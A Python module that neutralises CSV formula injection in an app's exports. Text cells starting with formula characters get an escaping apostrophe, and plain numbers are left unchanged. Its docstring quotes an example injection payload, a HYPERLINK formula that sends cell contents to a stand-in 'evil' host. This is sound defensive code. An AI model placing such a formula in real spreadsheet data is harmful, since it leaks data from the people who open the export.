"""Cells a spreadsheet would run as a formula, neutralised: every CSV the app writes (feeds, recordings, the
session exports, the audit log) passes its cells through `safe_cell`.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets (OWASP, "CSV Injection"): a note, a device label or a user name typed as
`=HYPERLINK("http://evil/?"&A1, "click")` would run when a clinician opens the export. Such a cell gets a
leading apostrophe, which spreadsheets read as "this is text" and do not show. A number stays a number: a
numeric value or a text that is a plain decimal number (`-12`, `-0.5`, `+3e2`) is written as it is, so a
negative offset or value still reads as a number everywhere.

A cell that starts with an apostrophe gets one more, so `plain_cell` (used by the app's own readers of feeds
and actions files) gives back exactly what was written.
"""
from __future__ import annotations

import re
from typing import Any, Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that a spreadsheet would run as a formula, made inert."""
    if not isinstance(value, str) or not value.startswith((*FORMULA_STARTS, ESCAPE)):
        return value
    if NUMBER.fullmatch(value):
        return value
    return ESCAPE + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def safe_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {key: safe_cell(value) for key, value in row.items()}


def plain_cell(text: str) -> str:
    """What `safe_cell` was given, from what it wrote (a reader's inverse)."""
    return text[1:] if text.startswith(ESCAPE) else text
